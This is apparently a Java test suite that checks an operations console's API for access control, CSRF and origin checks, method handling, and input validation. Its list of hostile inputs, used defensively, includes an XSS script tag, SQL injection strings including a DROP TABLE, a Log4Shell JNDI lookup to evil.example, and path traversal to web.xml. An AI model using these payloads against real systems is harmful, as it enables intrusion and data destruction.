package io.claimdispatch.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import io.claimdispatch.ActionQuery;
import io.claimdispatch.internal.common.TableName;
import io.claimdispatch.internal.common.TypePattern;
import io.claimdispatch.internal.console.api.ConsoleApi;
import io.claimdispatch.internal.console.api.TestApi;
import io.claimdispatch.internal.console.api.call.Parameter;
import io.claimdispatch.internal.console.api.call.RouteSpec;
import io.claimdispatch.internal.console.security.Caller;
import io.claimdispatch.internal.console.security.Permission;
import io.claimdispatch.internal.console.web.ConsoleClient;
import io.claimdispatch.internal.console.web.ConsoleServer;
import io.claimdispatch.internal.operate.Order;
import io.claimdispatch.internal.operate.bulk.BulkOrder;
import io.claimdispatch.internal.operate.bulk.BulkPreviews;
import io.claimdispatch.internal.operate.bulk.BulkVerb;
import io.claimdispatch.internal.store.Databases;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonReader;
import java.io.StringReader;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.StringJoiner;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Each route of the console, asked by everybody, from everywhere, with everything: what is answered follows from its
 * entry in the table of routes. Two routes of the test count what comes through, and need more than the others.
 */
class ConsoleMatrixTest extends PipelineTest {

    private static final String NOBODY = "nobody";
    private static final String GUEST = "guest";

    private static final Map<String, Permission> PERMISSIONS =
            Map.of("viewer", Permission.VIEW, "operator", Permission.OPERATE, "admin", Permission.ADMINISTER);

    private static final List<String> USERS = List.of(NOBODY, GUEST, "viewer", "operator", "admin");

    private static final List<@Nullable String> SITES =
            Arrays.asList(null, "same-origin", "same-site", "cross-site", "none");

    private static final List<@Nullable String> TYPES =
            Arrays.asList("application/json", null, "text/plain", "application/x-www-form-urlencoded");

    private static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND");

    /** None of them is a value of a parameter of ours. */
    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\u2028\u202Egnp.exe",
            "\u0000",
            "' OR '1'='1",
            "1; DROP TABLE action_logs",
            "${jndi:ldap://evil.example}",
            "../../WEB-INF/web.xml",
            "http://evil.example/",
            "-1",
            "1e3",
            "9".repeat(40),
            "x".repeat(5_000));

    private final AtomicInteger changes = new AtomicInteger();

    private Node node;
    private ConsoleApi api;
    private ConsoleServer server;
    private Map<String, ConsoleClient> clients;

    /** The row that the paths of routes name. */
    private long row;

    /** And the bulk action. */
    private long bulk;

    ConsoleMatrixTest() {
        super(Databases.H2);
    }

    @BeforeEach
    void open() throws Exception {
        // tokens change with the hour, and what is expected of one is computed when it has been sent
        Instant now = Instant.now();
        node = byHand(node().clock(() -> now));
        ConsoleApi real = node.get(ConsoleApi.class);
        api = TestApi.and(
                real,
                TestApi.route("POST", "operate", Permission.OPERATE, call -> {
                    changes.incrementAndGet();
                    return TestApi.route("POST", "operate", Permission.OPERATE).answer(call);
                }),
                TestApi.route("POST", "administer/{id}", Permission.ADMINISTER));
        server = ConsoleServer.with(() -> api).start();
        clients = new LinkedHashMap<>();
        for (String user : USERS) {
            clients.put(
                    user,
                    user.equals(NOBODY)
                            ? ConsoleClient.nobody(server.address())
                            : ConsoleClient.of(server.address(), user));
        }
        row = publish();
        bulk = preview();
    }

    /** A bulk action that has not begun. */
    private long preview() {
        ActionQuery query = ActionQuery.all().withIds(row);
        BulkOrder order = new BulkOrder(BulkVerb.RETRY, null, List.of(row), query, null, Duration.ZERO, 0, null);
        return node.get(BulkPreviews.class)
                .make(TableName.ACTION_LOGS, order, new Order("ann", "to be run", null))
                .id();
    }

    private long publish() {
        return node.publisher()
                .publish(draft -> draft.type("mail").eligibleNow().payload("{}"))
                .id()
                .orElseThrow();
    }

    /** A row, a pause and a bulk action that a route can change, since a route may have changed those before. */
    private void prepare(RouteSpec route) {
        if (route.path().startsWith("bulk/")) {
            bulk = preview();
        }
        if (route.path().startsWith("rows/") && !route.isRead()) {
            row = publish();
            if (route.path().endsWith("/requeue") || route.path().endsWith("/delete")) {
                node.actionLogs().cancel(row, "ann", "to be requeued, or deleted");
            }
        } else if (route.method().equals("DELETE")) {
            node.actionLogs().pause("mail", "ann", "to be resumed");
        }
    }

    /** A body that the route takes: a value for each member that it must have. */
    private static String body(RouteSpec route) {
        if (route.isRead()) {
            return "";
        }
        if (route.path().equals("bulk")) {
            return "{\"verb\":\"retry\",\"q\":\"state:waiting\",\"reason\":\"mail\"}";
        }
        StringJoiner body = new StringJoiner(",", "{", "}");
        for (Parameter member : route.body()) {
            if (member.isRequired() || member.name().equals("delay")) {
                body.add("\"" + member.name() + "\":" + value(member));
            }
        }
        return body.toString();
    }

    private static String value(Parameter member) {
        if (member.name().equals("payload")) {
            return "\"{}\"";
        }
        return member.type().equals("string") ? "\"mail\"" : "1";
    }

    @AfterEach
    void close() throws Exception {
        server.close();
    }

    private List<RouteSpec> routes() {
        return api.routes().specs();
    }

    private String path(RouteSpec spec) {
        return "api/v1/" + TestApi.path(spec, named(spec));
    }

    /** With the parameters that it must have. */
    private String address(RouteSpec spec) {
        return "api/v1/" + TestApi.address(spec, named(spec));
    }

    private long named(RouteSpec spec) {
        return spec.path().startsWith("bulk/") ? bulk : row;
    }

    /** One request, by what the answer depends on. */
    private record Ask(
            RouteSpec route,
            String user,
            @Nullable String site,
            @Nullable String origin,
            @Nullable String token,
            @Nullable String type) {

        @Override
        public String toString() {
            return route.method() + " " + route.path() + " by " + user + " with " + List.of(headers());
        }

        String[] headers() {
            List<String> headers = new ArrayList<>();
            Stream.of(
                            new String[] {"Sec-Fetch-Site", site},
                            new String[] {"Origin", origin},
                            new String[] {"X-Claim-Dispatch-Token", token},
                            new String[] {"Content-Type", type})
                    .filter(header -> header[1] != null)
                    .forEach(header -> headers.addAll(List.of(header)));
            return headers.toArray(String[]::new);
        }
    }

    private String own() {
        return "http://" + server.address().getAuthority();
    }

    private List<@Nullable String> origins() {
        return Arrays.asList(null, own(), own() + ".evil.example", "https://evil.example", "null");
    }

    private String token(String user, String application) {
        return api.tokens().of(new Caller(application, user, Permission.VIEW));
    }

    private static boolean may(String user, RouteSpec route) {
        Permission has = PERMISSIONS.get(user);
        return has != null && has.compareTo(route.permission()) >= 0;
    }

    /** The first is the right one. Whoever may not call a route is refused with that too. */
    private List<@Nullable String> tokens(RouteSpec route, String user) {
        List<@Nullable String> tokens = Arrays.asList(
                token(user, ConsoleServer.CONTEXT),
                null,
                "nonsense",
                token(user + "2", ConsoleServer.CONTEXT),
                token(user, "/other"));
        return route.isRead() || !may(user, route) ? tokens.subList(0, 1) : tokens;
    }

    private static List<@Nullable String> types(RouteSpec route, String user) {
        return route.isRead() || !may(user, route) ? TYPES.subList(0, 1) : TYPES;
    }

    private Stream<Ask> asks() {
        return routes().stream().flatMap(route -> USERS.stream().flatMap(user -> asks(route, user)));
    }

    private Stream<Ask> asks(RouteSpec route, String user) {
        return SITES.stream()
                .flatMap(site -> origins().stream()
                        .flatMap(origin -> tokens(route, user).stream()
                                .flatMap(token -> types(route, user).stream()
                                        .map(type -> new Ask(route, user, site, origin, token, type)))));
    }

    /** What the request gets, by the rules as the guide tells them. */
    private String expected(Ask ask) {
        if (!PERMISSIONS.containsKey(ask.user())) {
            return ask.user().equals(NOBODY) ? "401" : "403";
        }
        if (!may(ask.user(), ask.route())) {
            return "CLAIM0262";
        }
        boolean isRead = ask.route().isRead();
        if (!(ask.site() == null ? mayComeFrom(ask.origin(), isRead) : isOwnSite(ask.site(), isRead))) {
            return "CLAIM0264";
        }
        if (!isRead && !token(ask.user(), ConsoleServer.CONTEXT).equals(ask.token())) {
            return "CLAIM0266";
        }
        return isRead || "application/json".equals(ask.type()) ? "200" : "CLAIM0265";
    }

    private boolean mayComeFrom(@Nullable String origin, boolean isRead) {
        return origin == null ? isRead : origin.equals(own());
    }

    private static boolean isOwnSite(String site, boolean isRead) {
        return site.equals("same-origin") || isRead && site.equals("none");
    }

    private String answered(Ask ask) throws Exception {
        HttpResponse<String> answer = clients.get(ask.user())
                .send(ask.route().method(), address(ask.route()), body(ask.route()), ask.headers());
        String body = answer.body();
        if (PERMISSIONS.containsKey(ask.user()) && answer.statusCode() != 200) {
            try (JsonReader reader = Json.createReader(new StringReader(body))) {
                return reader.readObject().getString("id");
            }
        }
        return String.valueOf(answer.statusCode());
    }

    @Test
    void whoeverAsksFromWhereverGetsWhatTheTableOfRoutesSays() throws Exception {
        List<String> wrong = new ArrayList<>();
        int allowed = 0;
        for (Ask ask : asks().toList()) {
            String expected = expected(ask);
            if (expected.equals("200")) {
                prepare(ask.route());
            }
            String answered = answered(ask);
            if (!expected.equals(answered)) {
                wrong.add(ask + " got " + answered + " in the place of " + expected);
            }
            if (expected.equals("200") && ask.route().path().equals("operate")) {
                allowed++;
            }
        }

        assertThat(wrong).isEmpty();
        // by an operator and an admin: from our own origin, and from whichever where the browser says that it is our
        // page
        assertThat(changes).hasValue(allowed);
        assertThat(allowed).isEqualTo(2 * (1 + origins().size()));
    }

    @Test
    void noRouteTakesWhatItsEntryDoesNotName() throws Exception {
        ConsoleClient admin = clients.get("admin");
        for (RouteSpec route : routes()) {
            String path = path(route);
            List<String> known = routes().stream()
                    .filter(other -> path(other).equals(path))
                    .map(RouteSpec::method)
                    .sorted()
                    .toList();
            for (String method : METHODS) {
                if (!known.contains(method)) {
                    HttpResponse<String> answer = admin.send(method, path, "");
                    assertThat(answer.body())
                            .as("%s %s", method, path)
                            .contains("CLAIM0269", "Use " + String.join(", ", known) + ".");
                    assertThat(answer.headers().firstValue("Allow"))
                            .hasValue(String.join(", ", known).replace("GET", "GET, HEAD"));
                }
            }
            for (String other :
                    List.of(path + "/", path + "/1", path + ".json", path + "%20", path.toUpperCase(Locale.ROOT))) {
                // a type may have any end; without a token nothing is done to it
                boolean isOfAType = other.startsWith("api/v1/pauses/") && !other.endsWith("pauses/");
                int refused = route.method().equals("DELETE") ? 403 : 405;
                // 1 may be a bulk action, which is read, and nothing else at this address
                boolean isOfABulk =
                        other.equals("api/v1/bulk/1") && route.method().equals("POST");
                assertThat(admin.send(route.method(), other, "").statusCode())
                        .as(other)
                        .isIn(
                                isOfAType
                                        ? Set.of(refused)
                                        : isOfABulk
                                                ? Set.of(405)
                                                : other.equals("api/v1/bulk/1") ? Set.of(200, 404) : Set.of(404));
            }
            if (route.isRead()) {
                assertThat(admin.get(path + "?unknown=1").body()).as(path).contains("CLAIM0270");
                for (Parameter parameter : route.parameters()) {
                    assertThat(admin.get(path + "?" + parameter.name() + "=1&" + parameter.name() + "=2")
                                    .body())
                            .as("%s %s", path, parameter.name())
                            .contains("CLAIM0271");
                }
            }
        }
    }

    @Test
    void aHostileValueIsRefusedAndNeverAnErrorOfOurs() throws Exception {
        ConsoleClient admin = clients.get("admin");
        for (String value : HOSTILE) {
            String encoded = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
            for (RouteSpec route : routes()) {
                if (!route.isRead()) {
                    continue;
                }
                if (route.path().contains("{")) {
                    String path = "api/v1/" + route.path().replaceAll("\\{\\w+}", "");
                    assertThat(admin.get(path + encoded).statusCode())
                            .as(path + encoded)
                            .isIn(400, 404);
                }
                for (Parameter parameter : route.parameters()) {
                    HttpResponse<String> answer = admin.get(path(route) + "?" + parameter.name() + "=" + encoded);

                    boolean isTaken = isTaken(parameter, value);
                    assertThat(answer.statusCode())
                            .as("%s %s=%s: %s", route.path(), parameter.name(), value, answer.body())
                            .isEqualTo(isTaken ? 200 : 400);
                    assertThat(answer.headers().firstValue("Content-Type"))
                            .hasValue(isTaken ? "application/json" : "application/problem+json");
                    assertThat(answer.headers().firstValue("X-Content-Type-Options"))
                            .hasValue("nosniff");
                    assertThat(answer.body()).doesNotContain("SQL", "Exception", "\tat ");
                }
            }
        }
    }

    /** Anybody may have any name, many texts are types, and ids may be negative. */
    private static boolean isTaken(Parameter parameter, String value) {
        return parameter.name().equals("type") && new TypePattern(value).fault().isEmpty()
                || parameter.name().equals("who")
                || parameter.name().equals("row") && value.equals("-1");
    }

    @Test
    void aHostileValueInABodyIsRefusedOrKeptAsItIsAndNeverAnErrorOfOurs() throws Exception {
        ConsoleClient admin = clients.get("admin");
        String[] headers = {
            "Content-Type",
            "application/json",
            "Sec-Fetch-Site",
            "same-origin",
            "X-Claim-Dispatch-Token",
            token("admin", ConsoleServer.CONTEXT)
        };
        for (RouteSpec route : routes()) {
            for (Parameter member : route.body()) {
                for (String value : HOSTILE) {
                    prepare(route);
                    JsonObject body = Json.createObjectBuilder(object(body(route)))
                            .add(member.name(), value)
                            .build();
                    HttpResponse<String> answer = admin.send(route.method(), address(route), body.toString(), headers);

                    // a type has no blanks around it and no control characters, and families end in a dot and an
                    // asterisk; some are keys, or JSON
                    boolean mayBeTaken =
                            Set.of("reason", "type", "key", "payload").contains(member.name());
                    assertThat(answer.statusCode())
                            .as("%s %s=%s: %s", route.path(), member.name(), value, answer.body())
                            .isIn(mayBeTaken ? Set.of(200, 400) : Set.of(400));
                    assertThat(answer.body()).doesNotContain("SQL", "Exception", "\tat ");
                }
            }
        }
    }

    private static JsonObject object(String text) {
        try (JsonReader reader = Json.createReader(new StringReader(text))) {
            return reader.readObject();
        }
    }

    @Test
    void theMatrixHasTheRoutesOfTheConsole() {
        assertThat(routes())
                .extracting(route -> route.method() + " " + route.path())
                .contains(
                        "GET me",
                        "GET overview",
                        "GET rows",
                        "GET rows/{id}",
                        "GET rows/{id}/explain",
                        "GET rows/{id}/events",
                        "GET rows/{id}/payload",
                        "GET rows/{id}/batch",
                        "GET rows/{id}/edit",
                        "POST rows/{id}/edit",
                        "POST rows/{id}/clone",
                        "POST rows/{id}/delete",
                        "POST publish",
                        "GET failures",
                        "POST rows/{id}/unmask",
                        "POST rows/{id}/retry",
                        "POST rows/{id}/reschedule",
                        "POST rows/{id}/cancel",
                        "POST rows/{id}/requeue",
                        "GET pauses",
                        "POST pauses",
                        "DELETE pauses",
                        "DELETE pauses/{type}",
                        "GET types",
                        "GET nodes",
                        "GET events",
                        "GET bulk",
                        "POST bulk",
                        "GET bulk/{id}",
                        "POST bulk/{id}/run",
                        "POST bulk/{id}/cancel",
                        "POST run-once",
                        "GET openapi.json");
    }
}
